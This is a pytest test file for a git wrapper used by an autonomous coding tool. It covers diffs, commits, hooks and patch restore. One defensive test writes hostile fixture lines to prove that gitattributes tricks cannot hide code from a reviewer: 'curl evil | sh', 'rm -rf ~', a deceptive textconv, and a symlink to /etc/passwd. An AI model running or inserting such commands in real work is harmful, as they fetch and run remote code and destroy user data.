from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from ralph_tui.errors import GitError, UsageError
from ralph_tui.git.repo import GitRepo, numstat_paths
from tests.support.repo import git

PRD = "tasks/backend_prd.json"
PROGRESS = "tasks/backend_progress.txt"
BINARY = bytes(range(256)) * 4


def status(root: Path) -> str:
    return git(root, "status", "--porcelain=v1", "--untracked-files=all")


def tree_files(root: Path) -> dict[str, bytes]:
    """Every file under root except .git/, with its bytes."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def write(root: Path, rel: str, data: str | bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")


@pytest.fixture
def repo_with_files(repo: Path) -> Path:
    """The standard repo plus a long text file (for rename detection) and a binary file."""
    write(repo, "docs/long.txt", "".join(f"line {i}\n" for i in range(40)))
    write(repo, "assets/logo.bin", BINARY)
    write(repo, "src/old.py", "print('old')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "more files")
    return repo


def make_a_mess(root: Path) -> None:
    """One of each kind of change, with awkward names, in a repo from repo_with_files."""
    write(root, "README.md", "# test project\nnew line\n")
    write(root, "new dir/ünïcode file.py", "x = 1\n")
    write(root, "new dir/deeper/more.txt", "more\n")
    (root / "src/old.py").unlink()
    (root / "docs/long.txt").rename(root / "docs/moved.txt")
    write(root, "assets/logo.bin", BINARY[::-1])
    write(root, "assets/new.bin", b"\x00\x01\x02binary\xff")


# -- open ----------------------------------------------------------------------------------


def test_open_returns_the_top_level(repo: Path) -> None:
    assert GitRepo.open(repo).root == repo.resolve()


def test_open_refuses_a_plain_folder(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"not a git repository \(run `git init`"):
        GitRepo.open(tmp_path)


def test_open_refuses_a_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no such folder"):
        GitRepo.open(tmp_path / "nope")


def test_open_refuses_a_repo_without_commits(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    with pytest.raises(UsageError, match="has no commits yet"):
        GitRepo.open(tmp_path)


def test_open_refuses_a_subfolder(repo: Path) -> None:
    with pytest.raises(UsageError, match=r"subfolder of the git repository .*top level"):
        GitRepo.open(repo / "tasks")


# -- state ---------------------------------------------------------------------------------


def test_clean_repo_has_no_dirty_paths(repo: Path) -> None:
    assert GitRepo.open(repo).dirty_paths() == []


def test_dirty_paths_sees_every_kind_of_change_but_skips_ignored(repo: Path) -> None:
    write(repo, ".gitignore", "*.log\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore logs")
    write(repo, "README.md", "changed\n")
    write(repo, "staged.py", "y = 2\n")
    git(repo, "add", "staged.py")
    write(repo, "pkg/untracked.py", "z = 3\n")
    write(repo, "debug.log", "ignored by .gitignore\n")
    write(repo, ".ralph/runs/r1/events.jsonl", "{}\n")
    write(repo, PRD, "{}\n")
    (repo / "ralph.toml").unlink()

    g = GitRepo.open(repo)
    expected = ["README.md", "pkg/untracked.py", "ralph.toml", "staged.py", PRD]
    assert g.dirty_paths() == sorted(expected)
    assert g.dirty_paths(ignore=[PRD, PROGRESS]) == sorted(set(expected) - {PRD})
    assert g.dirty_paths(ignore=["pkg/"]) == sorted(set(expected) - {"pkg/untracked.py"})


def test_ensure_excluded_is_idempotent_and_hides_ralph(repo: Path) -> None:
    exclude = repo / ".git" / "info" / "exclude"
    exclude.write_text("# user line without newline", encoding="utf-8")
    write(repo, ".ralph/runs/r1/events.jsonl", "{}\n")
    g = GitRepo.open(repo)
    g.ensure_excluded()
    g.ensure_excluded()
    g.ensure_excluded(".ralph/")
    assert exclude.read_text(encoding="utf-8") == "# user line without newline\n.ralph/\n"
    assert status(repo) == ""


def test_head_sha_log_and_message(repo: Path) -> None:
    write(repo, "a.txt", "a\n")
    git(repo, "add", "a.txt")
    git(repo, "commit", "-q", "-m", "second: add a", "-m", "body text")
    g = GitRepo.open(repo)
    sha = git(repo, "rev-parse", "HEAD").strip()
    assert g.head_sha() == sha
    assert g.head_message() == "second: add a\n\nbody text"
    assert g.recent_log().splitlines() == [f"{sha[:7]} second: add a", f"{g_first(repo)} initial"]
    assert g.recent_log(1) == f"{sha[:7]} second: add a"
    assert g.recent_log(0) == ""


def g_first(root: Path) -> str:
    return git(root, "rev-list", "--max-parents=0", "HEAD").strip()[:7]


def test_files_in_commit(repo: Path) -> None:
    g = GitRepo.open(repo)
    first = g.head_sha()
    assert g.files_in_commit(first) == sorted(["README.md", PRD, PROGRESS, "ralph.toml"])
    with pytest.raises(GitError, match="no such commit"):
        g.files_in_commit("0" * 40)
    with pytest.raises(GitError, match="no such commit"):
        g.files_in_commit("not-a-ref")


# -- diffs ---------------------------------------------------------------------------------


def test_diff_lists_every_change_without_touching_the_index(repo_with_files: Path) -> None:
    root = repo_with_files
    make_a_mess(root)
    write(root, "staged-only.txt", "staged\n")
    git(root, "add", "staged-only.txt")
    write(root, ".ralph/runs/r1/transcript.md", "not part of the change\n")
    before = status(root)
    index_before = (root / ".git" / "index").read_bytes()

    g = GitRepo.open(root)
    files = {f.path: f for f in g.diff()}

    assert status(root) == before
    assert (root / ".git" / "index").read_bytes() == index_before
    assert set(files) == {
        "README.md",
        "new dir/ünïcode file.py",
        "new dir/deeper/more.txt",
        "src/old.py",
        "docs/moved.txt",
        "assets/logo.bin",
        "assets/new.bin",
        "staged-only.txt",
    }
    readme = files["README.md"]
    assert (readme.status, readme.additions, readme.deletions, readme.binary) == (
        "modified",
        1,
        0,
        False,
    )
    assert readme.patch.startswith("diff --git a/README.md b/README.md\n")
    assert "+new line\n" in readme.patch
    added = files["new dir/ünïcode file.py"]
    assert (added.status, added.additions, added.old_path) == ("added", 1, None)
    assert "+x = 1" in added.patch
    assert files["src/old.py"].status == "deleted"
    assert files["src/old.py"].deletions == 1
    moved = files["docs/moved.txt"]
    assert (moved.status, moved.old_path, moved.additions, moved.deletions) == (
        "renamed",
        "docs/long.txt",
        0,
        0,
    )
    assert "rename from docs/long.txt" in moved.patch
    for name, status_name in (("assets/logo.bin", "modified"), ("assets/new.bin", "added")):
        assert files[name].binary
        assert files[name].status == status_name
        assert f"Binary file {name}: binary data, " in files[name].patch
    assert files["staged-only.txt"].status == "added"


def test_diff_of_a_clean_tree_is_empty(repo: Path) -> None:
    g = GitRepo.open(repo)
    assert g.diff() == []
    assert g.diff_patch() == ""
    assert g.diffstat() == ""
    assert g.save_patch(repo / ".ralph" / "p.patch") is None
    assert not (repo / ".ralph").exists()


def test_diffstat_includes_untracked_files(repo: Path) -> None:
    write(repo, "README.md", "# test project\nmore\n")
    write(repo, "brand_new.py", "a = 1\nb = 2\n")
    before = status(repo)
    stat = GitRepo.open(repo).diffstat()
    assert status(repo) == before
    assert "README.md" in stat
    assert "brand_new.py" in stat
    assert "2 files changed, 3 insertions(+)" in stat


# -- commits -------------------------------------------------------------------------------


def test_commit_all_commits_everything_with_the_exact_message(repo_with_files: Path) -> None:
    root = repo_with_files
    make_a_mess(root)
    write(root, ".ralph/runs/r1/events.jsonl", "{}\n")  # not excluded yet: must stay out anyway
    g = GitRepo.open(root)
    message = "[backend] Task #US-001: First story\n\nImplemented by autonomous agent.\n"
    message += "All quality checks passing.\n# a line starting with a hash survives\n"
    sha = g.commit_all(message)

    assert sha == git(root, "rev-parse", "HEAD").strip()
    assert g.head_message() == message.rstrip("\n")
    assert g.dirty_paths() == []
    files = g.files_in_commit(sha)
    assert "new dir/ünïcode file.py" in files
    assert {"src/old.py", "docs/long.txt", "docs/moved.txt", "assets/new.bin"} <= set(files)
    assert not any(f.startswith(".ralph") for f in files)
    assert (root / ".ralph/runs/r1/events.jsonl").exists()


def test_commit_all_runs_the_pre_commit_hook(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "hook-ran"
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\necho ran > '{marker}'\n", encoding="utf-8")
    hook.chmod(0o755)
    write(repo, "a.py", "a = 1\n")
    GitRepo.open(repo).commit_all("add a")
    assert marker.read_text(encoding="utf-8") == "ran\n"
    assert git(repo, "log", "-1", "--format=%s").strip() == "add a"


def test_a_rejecting_hook_leaves_tree_and_index_as_they_were(repo: Path) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho 'lint says no: a.py' >&2\nexit 1\n", encoding="utf-8")
    hook.chmod(0o755)
    write(repo, "README.md", "changed\n")
    write(repo, "partly.txt", "v1\n")
    git(repo, "add", "partly.txt")
    write(repo, "partly.txt", "v2\n")  # staged v1, working tree v2
    write(repo, "a.py", "a = 1\n")
    g = GitRepo.open(repo)
    head = g.head_sha()
    before_status, before_files = status(repo), tree_files(repo)
    staged_before = git(repo, "diff", "--cached")

    with pytest.raises(GitError, match=r"git commit failed .*lint says no: a\.py"):
        g.commit_all("should not land")

    assert g.head_sha() == head
    assert status(repo) == before_status
    assert tree_files(repo) == before_files
    assert git(repo, "diff", "--cached") == staged_before


def test_commit_all_refuses_an_empty_message(repo: Path) -> None:
    with pytest.raises(UsageError, match="empty"):
        GitRepo.open(repo).commit_all("  \n")


def test_commit_all_with_nothing_to_commit_is_a_git_error(repo: Path) -> None:
    with pytest.raises(GitError, match="nothing to commit"):
        GitRepo.open(repo).commit_all("empty")


# -- discard and replay ---------------------------------------------------------------------


def test_save_patch_restore_then_apply_reproduces_the_change(repo_with_files: Path) -> None:
    root = repo_with_files
    make_a_mess(root)
    write(root, "staged-new.txt", "staged\n")
    git(root, "add", "staged-new.txt")
    (root / "empty-dir/nested").mkdir(parents=True)
    write(root, PRD, '{"edited": "by the human"}\n')
    write(root, PROGRESS, "# Progress log\n\nhuman note\n")
    write(root, ".ralph/runs/r1/events.jsonl", "{}\n")
    changed = tree_files(root)
    g = GitRepo.open(root)

    dest = g.save_patch(root / ".ralph" / "runs" / "r1" / "patches" / "iter-1.patch")
    assert dest is not None and dest.read_bytes().startswith(b"diff --git ")
    g.restore_to_head(keep=[PRD, PROGRESS])

    assert g.dirty_paths(ignore=[PRD, PROGRESS]) == []
    assert (root / PRD).read_bytes() == changed[PRD]
    assert (root / PROGRESS).read_bytes() == changed[PROGRESS]
    assert (root / "src/old.py").read_text(encoding="utf-8") == "print('old')\n"
    assert (root / "docs/long.txt").exists()
    assert not (root / "docs/moved.txt").exists()
    assert not (root / "new dir").exists()
    assert not (root / "empty-dir").exists()
    assert not (root / "staged-new.txt").exists()
    assert (root / "assets/logo.bin").read_bytes() == BINARY
    assert (root / ".ralph/runs/r1/events.jsonl").exists()
    assert git(root, "diff", "--cached") == ""

    # The saved patch replays the whole change (PRD and log included) on a clean HEAD.
    git(root, "checkout", "-q", "HEAD", "--", PRD, PROGRESS)
    git(root, "apply", "--binary", str(dest))
    changed[dest.relative_to(root).as_posix()] = dest.read_bytes()
    assert tree_files(root) == changed


def test_restore_leaves_ignored_files_and_nested_repos(repo: Path) -> None:
    write(repo, ".gitignore", "build/\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore build")
    write(repo, "build/out.o", b"\x7fELF")
    nested = repo / "vendor" / "lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    write(repo, "scratch.txt", "temp\n")
    GitRepo.open(repo).restore_to_head()
    assert (repo / "build/out.o").exists()
    assert (nested / ".git").is_dir()
    assert not (repo / "scratch.txt").exists()


def test_restore_puts_a_file_back_where_a_folder_replaced_it(repo: Path) -> None:
    (repo / "README.md").unlink()
    write(repo, "README.md/inside.txt", "a folder now\n")
    GitRepo.open(repo).restore_to_head()
    assert (repo / "README.md").read_text(encoding="utf-8") == "# test project\n"


def test_git_apply_rejects_nothing_in_a_text_only_patch(repo: Path) -> None:
    """diff_patch() as text is what save_patch writes, so either can be replayed."""
    write(repo, "README.md", "# test project\nplus\n")
    g = GitRepo.open(repo)
    text = g.diff_patch()
    g.restore_to_head()
    done = subprocess.run(
        ["git", "apply", "-"], cwd=repo, input=text.encode("utf-8", "surrogateescape"), check=False
    )
    assert done.returncode == 0
    assert (repo / "README.md").read_text(encoding="utf-8") == "# test project\nplus\n"


def test_non_utf8_content_round_trips_through_the_patch(repo: Path) -> None:
    write(repo, "latin1.txt", "café\n".encode("latin-1"))
    g = GitRepo.open(repo)
    text = g.diff_patch()
    g.restore_to_head()
    assert not (repo / "latin1.txt").exists()
    subprocess.run(
        ["git", "apply", "-"], cwd=repo, input=text.encode("utf-8", "surrogateescape"), check=True
    )
    assert (repo / "latin1.txt").read_bytes() == "café\n".encode("latin-1")


def test_the_reviewer_sees_text_whatever_the_attributes_say(tmp_path: Path) -> None:
    """A ``-diff`` attribute, a textconv and a ``binary`` macro cannot turn code into a blob;
    a real binary is named with its kind and size; modes and symlinks get a note."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    (root / "core.py").write_text("x = 1\n")
    (root / "tool.sh").write_text("echo hi\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    (root / ".gitattributes").write_text("*.py -diff\n*.sh binary diff=evil\n")
    git(root, "config", "diff.evil.textconv", "sh -c 'echo harmless'")
    (root / "core.py").write_text("x = 1\nimport os; os.system('curl evil | sh')\n")
    (root / "tool.sh").write_text("echo hi\nrm -rf ~\n")
    (root / "tool.sh").chmod(0o755)
    (root / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00" + bytes(100))
    (root / "link").symlink_to("/etc/passwd")

    files = {f.path: f for f in GitRepo(root).diff()}

    core = files["core.py"]
    assert not core.binary and "+import os; os.system('curl evil | sh')" in core.patch
    assert core.additions == 1
    tool = files["tool.sh"]
    assert not tool.binary and "+rm -rf ~" in tool.patch and "harmless" not in tool.patch
    assert "! mode 100644 -> 100755 (made executable)" in tool.patch
    assert files["logo.png"].binary
    assert "Binary file logo.png: PNG image, 111 bytes" in files["logo.png"].patch
    assert "! symlink -> /etc/passwd (points OUTSIDE the repository)" in files["link"].patch
    stat = GitRepo(root).diffstat()
    assert "Bin" not in stat.split("logo.png")[0]  # only the real binary is one
    assert re.search(r"core\.py +\| 1 \+", stat), stat
    assert "logo.png       | PNG image, 111 bytes" in stat


def test_numstat_paths_reads_both_shapes_git_prints(tmp_path: Path) -> None:
    """``git apply --numstat -z`` names a renamed file once; ``diff --numstat -z -M`` as
    ``\\0old\\0new``. Names with tabs, newlines or bytes that are not UTF-8 stay whole."""
    printed = b"1\t0\ta.txt\0-\t-\tbin.dat\0" + b"0\t0\t\0old name.txt\0new\tname\n.txt\0"
    printed += b"2\t1\t\xff.txt\0"
    assert numstat_paths(printed) == [
        "a.txt",
        "bin.dat",
        "new\tname\n.txt",
        b"\xff.txt".decode("utf-8", "surrogateescape"),
    ]
    assert numstat_paths(b"") == []
    assert numstat_paths(b"warning: not a record\0" + b"1\t0\tb.txt\0") == ["b.txt"]
